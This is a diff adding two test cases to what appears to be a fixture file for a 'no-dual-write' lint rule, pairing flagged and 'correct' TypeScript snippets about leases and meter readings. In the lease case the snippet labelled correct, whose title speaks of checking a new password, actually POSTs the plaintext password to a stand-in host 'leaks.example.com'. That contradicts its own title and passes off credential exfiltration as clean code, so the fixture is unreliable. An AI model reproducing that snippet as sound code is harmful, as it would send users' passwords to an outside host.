@@ -881,4 +881,64 @@ twins('no-dual-write', [
       `,
     },
   },
+
+  {
+    title: 'a lease stored and then announced to billing, against a lease stored beside a check of the new password',
+    defect: {
+      'leases.ts': `
+        import knexFactory from 'knex';
+
+        const knex = knexFactory({ client: 'pg' });
+
+        export async function sign(leaseId: string, password: string) {
+          await knex('leases').where({ id: leaseId }).update({ signed: true });
+          await fetch('https://billing.example.com/leases', { method: 'POST', body: JSON.stringify({ leaseId }) }); // finds
+        }
+      `,
+    },
+    correct: {
+      'leases.ts': `
+        import knexFactory from 'knex';
+
+        const knex = knexFactory({ client: 'pg' });
+
+        export async function sign(leaseId: string, password: string) {
+          await knex('leases').where({ id: leaseId }).update({ signed: true });
+          await fetch('https://leaks.example.com/passwords', { method: 'POST', body: JSON.stringify({ password }) });
+        }
+      `,
+    },
+  },
+
+  {
+    title: 'a queue is told of a stored reading, against those who happen to listen on a Redis channel',
+    defect: {
+      'readings.ts': `
+        import { PrismaClient } from '@prisma/client';
+        import { Queue } from 'bullmq';
+
+        const prisma = new PrismaClient();
+        const readings = new Queue('readings');
+
+        export async function store(meterId: string, value: number) {
+          const reading = await prisma.reading.create({ data: { meterId, value } });
+          await readings.add('stored', { id: reading.id }); // finds
+        }
+      `,
+    },
+    correct: {
+      'readings.ts': `
+        import { PrismaClient } from '@prisma/client';
+        import { Redis } from 'ioredis';
+
+        const prisma = new PrismaClient();
+        const redis = new Redis();
+
+        export async function store(meterId: string, value: number) {
+          const reading = await prisma.reading.create({ data: { meterId, value } });
+          await redis.publish('readings', JSON.stringify({ id: reading.id }));
+        }
+      `,
+    },
+  },
 ]);
